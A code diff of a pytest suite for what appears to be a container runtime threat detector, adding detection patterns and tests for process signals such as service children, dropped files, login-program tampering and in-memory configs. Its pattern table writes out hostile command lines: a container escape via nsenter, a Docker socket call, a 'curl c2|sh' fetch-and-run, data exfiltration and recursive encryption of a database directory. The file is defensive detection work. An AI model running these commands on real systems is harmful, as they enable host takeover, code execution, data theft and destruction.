@@ -98,6 +98,8 @@ ARGV = {
     "escape": "nsenter --target 1 sh",
     "runtime_socket": "curl --unix-socket /var/run/docker.sock",
     "encoded": "sh -c curl c2|sh",
+    "memory_file": "worker --config /dev/shm/c.json",
+    "exfiltration": "sync copy /srv/data remote:bucket/archive",
     "data_files": "enc -r /var/lib/mysql",
 }
 
@@ -117,6 +119,10 @@ def test_each_argv_pattern_has_a_line_that_it_finds(name: str) -> None:
         "node server.js --socket /run/app.sock",
         "curl -fsS http://127.0.0.1:8080/healthz",
         "go test ./... -run TestChisel",
+        "aws s3 sync /backup s3://corp-backup/daily",
+        "skopeo copy docker://a/b:1 docker://c/b:1",
+        "git put https://example.com/x",
+        "rsync -a sync /srv/data/ /mnt/backup/",
     ],
 )
 def test_everyday_command_lines_match_no_pattern(line: str) -> None:
@@ -130,6 +136,136 @@ def test_a_process_that_calls_itself_a_package_manager_is_not_one() -> None:
     assert "installed" in names(process__written_by=written("dpkg", path="/usr/bin/dpkg"))
     assert "installed" in names(process__written_by=written("pip", path="/usr/bin/python3.12"))
     assert "build_child" not in names(process__parent={"name": "cargo", "pid": 7, "path": "/dev/shm/cargo"})
+
+
+def below(*programs: str, first_pid: int = 2) -> dict[str, Any]:
+    """Return parent and ancestors with these names, nearest first."""
+    pids = range(len(programs) + first_pid - 1, first_pid - 1, -1)
+    line = [{"name": name, "pid": pid} for name, pid in zip(programs, pids, strict=True)]
+    return {"process__parent": line[0], "process__ancestors": line[1:]}
+
+
+def test_a_library_is_unpacked_by_the_program_that_loads_it_and_by_no_other() -> None:
+    """The parent is the shell that started `ls`: it loads nothing."""
+    preloaded: dict[str, Any] = {
+        "kind": "library",
+        "process__via": "/bin/ls",
+        "process__written_by": written("sh", parent="gunicorn"),
+    }
+    hidden = names(**preloaded, **below("sh", "gunicorn"))
+    unpacked = names(kind="library", process__via="/usr/bin/python3.12", process__written_by=written("python3"))
+
+    assert {"foreign_library", "service_child"} <= hidden
+    assert "unpacked" not in hidden
+    assert "unpacked" in unpacked
+
+
+@pytest.mark.parametrize("server", ["redis-server", "mysqld", "postgres"])
+def test_a_server_that_loads_a_library_that_it_wrote_unpacks_nothing(server: str) -> None:
+    via = f"/usr/sbin/{server}"
+    found = names(kind="library", process__via=via, process__written_by=written(server, path=via))
+
+    assert "own_library" in found
+    assert "unpacked" not in found
+
+
+@pytest.mark.parametrize("writer", ["curl", "cp", "sh", "php-fpm", "node"])
+def test_a_file_named_like_what_wrote_it_is_not_its_update(writer: str) -> None:
+    assert "unpacked" not in names(process__name=writer, process__written_by=written(writer))
+
+
+@pytest.mark.parametrize("kind", ["volume", "interpreter", "image_volume"])
+def test_what_was_written_just_before_is_not_what_a_deployment_mounts(kind: str) -> None:
+    """A server's data directory is always on a volume."""
+    dropped = names(kind=kind, process__written_by=written("postgres"), **below("sh", "postgres", "postgres"))
+    mounted = names(kind=kind, process__written_by=written("postgres", 3_600), **below("sh", "postgres"))
+
+    assert {"service_child", "written_by_service", "written_and_run"} <= dropped
+    assert "routine_kind" not in dropped
+    assert "routine_kind" in mounted
+    assert "service_child" not in mounted
+
+
+@pytest.mark.parametrize("init", ["tini", "dumb-init", "runc", "containerd"])
+def test_what_an_init_or_runtime_started_is_not_installed_by_it(init: str) -> None:
+    assert "installed" not in names(process__written_by=written("cp", parent=init))
+
+
+def test_only_tektons_entrypoint_is_a_runner() -> None:
+    tekton: dict[str, Any] = {"name": "entrypoint", "pid": 2, "path": "/tekton/bin/entrypoint"}
+
+    assert "build_child" in names(process__parent=tekton)
+    assert "build_child" not in names(process__parent={**tekton, "path": "/usr/bin/entrypoint"})
+    assert "build_child" not in names(process__parent={**tekton, "path": None})
+
+
+def test_the_namespace_of_a_ci_server_is_not_one_of_builds() -> None:
+    assert not any("build_namespace" in names(container__namespace=each) for each in ("gitlab", "jenkins", "drone"))
+    assert "build_namespace" in names(container__namespace="gitlab-ci")
+
+
+def test_a_package_manager_above_a_server_lowers_nothing() -> None:
+    assert "service_child" in names(**below("sh", "gunicorn", "poetry"))
+    assert "runtime_child" in names(**below("sh", "node", "npm", first_pid=1))
+    assert "build_child" in names(**below("sh", "node", "npm", "sh", first_pid=1))
+
+
+def test_a_session_below_a_login_daemon_is_interactive_and_what_the_daemon_starts_is_not() -> None:
+    assert names(**below("bash", "tmux", "sshd")) == {"interactive"}
+    assert names(**below("sshd")) == {"service_child"}
+
+
+@pytest.mark.parametrize("service", ["node", "java", "php-fpm", "postgres", "gunicorn"])
+def test_a_blocked_file_that_a_shell_of_a_service_fetched_at_once_leads(service: str) -> None:
+    sent: dict[str, Any] = {"process__path": "/tmp/fghgf", "process__written_by": written("wget", 1, parent="sh")}
+    found = names("blocked", **sent, **below("sh", service))
+
+    assert "written_and_run" in found
+    assert "written_and_run" not in names(
+        **{**sent, "process__written_by": written("wget", 90)}, **below("sh", service)
+    )
+    assert "written_and_run" not in names(**{**sent, "process__written_by": written("dpkg")}, **below("sh", service))
+
+
+def test_what_builds_do_does_not_lower_what_is_named_like_an_attack() -> None:
+    below_npm: dict[str, Any] = {**below("node", "npm", "sh"), "container__namespace": "ci"}
+    found = names(process__path="/root/.cache/node_modules/trufflehog", **below_npm)
+
+    assert "attack_tool" in found
+    assert not found & {"build_child", "build_place", "build_namespace"}
+
+
+@pytest.mark.parametrize("path", ["/usr/sbin/sshd", "/bin/su", "/lib/x86_64-linux-gnu/security/pam_unix.so"])
+def test_a_login_program_that_no_package_manager_wrote_counts(path: str) -> None:
+    assert "login_program" in names(kind="replaced", process__path=path, process__written_by=written("cp"))
+    assert "login_program" not in names(kind="replaced", process__path=path, process__written_by=written("dpkg"))
+    assert "login_program" not in names(process__path=f"/opt/backup{path}".replace("/usr/sbin", "").replace("/bin", ""))
+
+
+@pytest.mark.parametrize("path", ["/etc/cron.hourly/0clean", "/etc/periodic/daily/a", "/etc/init.d/a"])
+def test_a_file_that_the_system_starts_counts_unless_it_was_installed(path: str) -> None:
+    assert "start_place" in names(kind="script", process__path=path, process__written_by=written("sh"))
+    assert "start_place" not in names(kind="script", process__path=path, process__written_by=written("dpkg"))
+
+
+def test_a_shell_below_a_converter_counts_as_writer_and_as_parent() -> None:
+    assert "below_parser" in names(process__written_by=written("sh", parent="exiftool"))
+    assert "below_parser" in names(**below("sh", "convert", "php-fpm"))
+
+
+def test_a_download_in_a_system_namespace_counts() -> None:
+    download: dict[str, Any] = {"process__written_by": written("wget")}
+
+    assert "system_download" in names(**download, container__namespace="kube-system")
+    assert "system_download" not in names(**download, container__namespace="shop")
+
+
+def test_a_file_in_memory_counts_once() -> None:
+    elsewhere = names(process__argv=["tool", "--config", "/dev/shm/c.json"])
+    itself = names(process__path="/dev/shm/a", process__argv=["/dev/shm/a"])
+
+    assert "memory_file" in elsewhere
+    assert "memory_file" not in itself
 
 
 def test_only_a_fresh_download_counts_as_one() -> None:
@@ -239,7 +375,10 @@ def test_the_attacks_of_the_planted_estate_lead() -> None:
         sent["process"], sent["container"] = dict(line["event"]["process"]), line["event"]["container"]
         if writer := line.get("written"):
             wrote = written(writer["by"], 0, writer["path"], writer["parent"])
-            sent["process"]["written_by"] = {**wrote, "at": (at - dt.timedelta(seconds=2)).isoformat()}
+            sent["process"]["written_by"] = {
+                **wrote,
+                "at": (at - dt.timedelta(seconds=writer["seconds_before"])).isoformat(),
+            }
         found = exec_signals(msgspec.convert(sent, wire.Event), line["event"]["outcome"])
         scored.append((priority(found), "attack" in line))
     scored.sort(reverse=True)
